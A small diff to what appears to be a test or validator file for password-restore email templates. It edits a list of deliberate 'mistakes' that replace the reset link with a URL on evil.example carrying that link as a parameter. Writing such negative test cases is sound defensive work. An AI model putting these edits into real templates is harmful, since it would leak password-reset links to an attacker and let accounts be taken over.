@@ -17,9 +17,6 @@ import { publicFolder, schemaFolder } from '#server/engine/paths.ts'
 const MISTAKES = String.raw`
 mails/password-restore.json письма/чужой-адрес
 - { "$get": "params.link" }
-+ ▸{ "$text": "https://evil.example/?u={params.link}" }
-mails/password-restore.json письма/чужой-адрес
-- { "$get": "params.link" }
 + ▸{ "$text": "https://evil.example/?a=b c{ params.link }" }
 mails/password-restore.json письма/чужой-адрес
 - { "$get": "params.link" }
